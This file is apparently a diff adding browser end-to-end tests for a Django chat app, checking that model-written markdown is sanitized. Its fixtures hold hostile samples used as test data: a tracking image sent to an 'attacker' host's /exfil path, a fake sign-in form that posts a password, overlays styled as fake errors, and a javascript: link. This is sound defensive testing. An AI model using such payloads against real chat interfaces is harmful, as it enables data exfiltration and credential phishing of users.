@@ -1,0 +1,330 @@
+"""Content from the model in a real browser (issue 7, items 7-9): remote images are never
+fetched, hostile markup never appears (live, once done, after a reload), the live
+renderer applies the same allow-list as the server's, and the Content-Security-Policy
+lets the app, its admin and its diagnostics page work without a single violation.
+
+The same Chromium, daphne and fake upstream as test_chat_browser.py; the fake upstream's
+demo reply quotes the user's message, which is how these tests make the "model" write
+hostile markdown.
+"""
+
+from __future__ import annotations
+
+import os
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import expect
+
+from conversations.markdown import render
+from tests.servers import CHROMIUM, CHROMIUM_ARGS, Daphne, app_env, create_user, manage
+from tests.upstream import FakeUpstream
+
+pytestmark = pytest.mark.e2e
+
+USERNAME, PASSWORD = "erin", "erin-e2e-password-7"
+ADMIN, ADMIN_PASSWORD = "dana", "dana-e2e-password-7"
+TIMEOUT_MS = 20_000
+
+# Elements and attributes the answer must never contain, whichever renderer made it.
+FORBIDDEN = (
+    ".markdown img, .markdown form, .markdown input, .markdown button, .markdown textarea,"
+    " .markdown [style], .markdown .callout-error, .markdown .toast"
+)
+
+# Installed before any page script: remembers every forbidden element that ever appears
+# in a message, however briefly (a live rendering lasts one animation frame).
+WATCH_SCRIPT = (
+    """
+window.__forbidden = [];
+new MutationObserver(() => {
+  for (const el of document.querySelectorAll(SELECTOR)) {
+    if (el.closest(".code-head")) continue;  // the app's own Copy button
+    window.__forbidden.push(el.outerHTML.slice(0, 200));
+  }
+}).observe(document, { childList: true, subtree: true, attributes: true });
+"""
+).replace("SELECTOR", repr(FORBIDDEN))
+
+
+class Counter:
+    """A web server on 127.0.0.1 that counts the requests it gets (the attacker's host)."""
+
+    def __init__(self) -> None:
+        self.paths: list[str] = []
+        counter = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                counter.paths.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def attacker() -> Iterator[Counter]:
+    counter = Counter()
+    yield counter
+    counter.close()
+
+
+@pytest.fixture(scope="module")
+def upstream() -> Iterator[FakeUpstream]:
+    with FakeUpstream() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def app(
+    tmp_path_factory: pytest.TempPathFactory, upstream: FakeUpstream, static_root: Path
+) -> Iterator[Daphne]:
+    data_dir = tmp_path_factory.mktemp("e2e-content")
+    env = app_env(
+        data_dir,
+        static_root,
+        OPENAI_API_BASE_URL=upstream.base_url,
+        OPENAI_API_KEY="sk-e2e-secret-never-shown",
+        WHITENOISE_USE_FINDERS="true",
+        DEBUG="false",
+    )
+    manage(env, "migrate", "--noinput", "-v", "0")
+    create_user(env, USERNAME, PASSWORD)
+    manage(
+        env,
+        "shell",
+        "-c",
+        "from django.contrib.auth import get_user_model; "
+        f"get_user_model().objects.create_superuser({ADMIN!r}, password={ADMIN_PASSWORD!r})",
+    )
+    server = Daphne(env, data_dir / "daphne.log")
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    if not os.path.exists(CHROMIUM):
+        pytest.fail(f"Chromium is required for the e2e suite and is not at {CHROMIUM}.")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        try:
+            yield chromium
+        finally:
+            chromium.close()
+
+
+def open_page(browser: Any, app: Daphne, username: str, password: str) -> tuple[Any, Any]:
+    context = browser.new_context(base_url=app.url, viewport={"width": 1280, "height": 800})
+    context.set_default_timeout(TIMEOUT_MS)
+    context.add_init_script(WATCH_SCRIPT)
+    page = context.new_page()
+    page.csp_violations = []
+    page.script_errors = []
+    page.on(
+        "console",
+        lambda message: (
+            page.csp_violations.append(message.text)
+            if "Content Security Policy" in message.text
+            else None
+        ),
+    )
+    page.on("pageerror", lambda error: page.script_errors.append(str(error)))
+    page.goto("/accounts/login/")
+    page.fill("#id_username", username)
+    page.fill("#id_password", password)
+    page.click("button[type=submit]")
+    page.wait_for_url(f"{app.url}/")
+    return context, page
+
+
+# Parsing a style attribute, even in DOMPurify's inert document, is reported as a blocked
+# inline style: the policy doing its job on hostile input, which the tests below expect.
+BLOCKED_STYLE = "Applying inline style violates"
+
+
+def finish(context: Any, page: Any, app: Daphne) -> None:
+    violations = page.csp_violations
+    if getattr(page, "hostile_styles", False):
+        violations = [v for v in violations if not v.startswith(BLOCKED_STYLE)]
+    errors = page.script_errors
+    context.close()
+    assert not violations, violations
+    assert not errors, f"{errors}\n{app.log_path.read_text()[-3000:]}"
+
+
+@pytest.fixture
+def page(browser: Any, app: Daphne) -> Iterator[Any]:
+    """A signed-in page; a CSP violation or an uncaught script error fails the test."""
+    context, page = open_page(browser, app, USERNAME, PASSWORD)
+    yield page
+    finish(context, page, app)
+
+
+@pytest.fixture
+def admin_page(browser: Any, app: Daphne) -> Iterator[Any]:
+    context, page = open_page(browser, app, ADMIN, ADMIN_PASSWORD)
+    yield page
+    finish(context, page, app)
+
+
+def start_chat(page: Any, text: str) -> None:
+    page.goto("/")
+    page.fill("#composer-text", text)
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/c/*/")
+    expect(page.locator('.msg-assistant[data-status="done"]')).to_have_count(1)
+
+
+def forbidden_seen(page: Any) -> list[str]:
+    return list(page.evaluate("() => window.__forbidden"))
+
+
+def test_a_remote_image_in_an_answer_is_a_link_and_never_fetched(
+    page: Any, attacker: Counter
+) -> None:
+    start_chat(page, f"Look ![tracker]({attacker.url}/exfil?d=secret) here")
+
+    link = page.locator(".msg-assistant .markdown a.remote-image")
+    expect(link).to_have_text("tracker")
+    expect(link).to_have_attribute("href", f"{attacker.url}/exfil?d=secret")
+    assert forbidden_seen(page) == []  # not even for one frame while streaming
+
+    page.reload()
+    expect(page.locator(".msg-assistant .markdown a.remote-image")).to_have_text("tracker")
+    page.wait_for_load_state("networkidle")
+    assert forbidden_seen(page) == []
+    assert attacker.paths == []
+
+
+def test_hostile_markup_never_appears_live_done_or_after_reload(
+    page: Any, attacker: Counter
+) -> None:
+    page.hostile_styles = True
+    start_chat(
+        page,
+        f'<form action="{attacker.url}/p">Session expired <input name="password">'
+        '<button>Sign in</button></form> <b style="position:fixed;inset:0" '
+        'class="callout-error">Answer failed</b>',
+    )
+    markdown = page.locator(".msg-assistant .markdown")
+    expect(markdown).to_contain_text("Session expired")
+    expect(markdown).to_contain_text("Answer failed")
+    assert forbidden_seen(page) == []
+
+    page.reload()
+    expect(page.locator(".msg-assistant .markdown")).to_contain_text("Answer failed")
+    assert forbidden_seen(page) == []
+    assert attacker.paths == []
+
+
+# The live renderer, called directly in the page: (markdown, what must not survive).
+HOSTILE = [
+    ('<form action="https://evil.example"><input name="p" type="password"></form>', "form"),
+    ('<div style="position:fixed;inset:0">cover</div>', "[style]"),
+    ('<div class="callout-error">Answer failed</div>', ".callout-error"),
+    ("![x](https://evil.example/pixel.gif)", "img"),
+    ("<textarea>secret</textarea><select><option>a</option></select>", "textarea, select"),
+    ('<a href="javascript:alert(1)">x</a>', "[href^=javascript]"),
+    ('<span data-x="1" aria-label="y" id="z">t</span>', "[data-x], [aria-label], [id]"),
+]
+
+STRUCTURE_JS = """
+(html) => {
+  const walk = (node) => [...node.childNodes].flatMap((child) => {
+    if (child.nodeType === Node.TEXT_NODE) {
+      const text = child.textContent.replace(/\\s+/g, " ").trim();
+      return text ? [text] : [];
+    }
+    if (child.nodeType !== Node.ELEMENT_NODE) return [];
+    // An empty paragraph shows nothing (Python-Markdown leaves one where a dropped
+    // element stood; marked does not).
+    if (child.localName === "p" && !child.hasChildNodes()) return [];
+    const attrs = Object.fromEntries([...child.attributes].map((a) => [a.name, a.value]));
+    return [[child.localName, attrs, walk(child)]];
+  });
+  const template = document.createElement("template");
+  template.innerHTML = html;
+  return walk(template.content);
+}
+"""
+
+
+def renderers(page: Any, text: str) -> dict[str, Any]:
+    """The live rendering of `text`, and the server's HTML as the browser shows it."""
+    return dict(
+        page.evaluate(
+            """async ({ text, server }) => {
+                const { renderMarkdown, sanitizeHtml } = await import("chatweb/render.js");
+                return { live: renderMarkdown(text), server: sanitizeHtml(server) };
+            }""",
+            {"text": text, "server": render(text)},
+        )
+    )
+
+
+@pytest.mark.parametrize(("text", "selector"), HOSTILE)
+def test_the_live_renderer_allows_what_the_server_allows(
+    page: Any, text: str, selector: str
+) -> None:
+    page.hostile_styles = True
+    result = renderers(page, text)
+
+    for html in (result["live"], result["server"]):
+        found = page.evaluate(
+            """([html, selector]) => {
+                const template = document.createElement("template");
+                template.innerHTML = html;
+                return template.content.querySelectorAll(selector).length;
+            }""",
+            [html, selector],
+        )
+        assert found == 0, html
+    assert page.evaluate(STRUCTURE_JS, result["live"]) == page.evaluate(
+        STRUCTURE_JS, result["server"]
+    )
+
+
+def test_the_admin_works_under_the_policy(admin_page: Any) -> None:
+    page = admin_page
+    page.goto("/admin/")
+    expect(page.locator("#site-name")).to_be_visible()
+    page.goto("/admin/auth/user/")
+    # actions.js runs: "select all" ticks every row and counts them.
+    page.click("#action-toggle")
+    expect(page.locator(".action-counter")).to_contain_text("2 of 2 selected")
+    page.goto("/admin/auth/user/add/")
+    expect(page.locator("#id_username")).to_be_visible()
+    page.goto("/admin/conversations/conversation/")
+    expect(page.locator("#changelist")).to_be_visible()
+
+
+def test_the_diagnostics_page_runs_under_the_policy(admin_page: Any) -> None:
+    page = admin_page
+    page.goto("/admin-tools/diagnostics/")
+
+    for channel in ("websocket", "http"):
+        verdict = page.locator(f'[data-channel="{channel}"] [data-verdict]')
+        expect(verdict).not_to_have_attribute("data-state", "running", timeout=30_000)
+        expect(verdict).not_to_have_attribute("data-state", "failed")
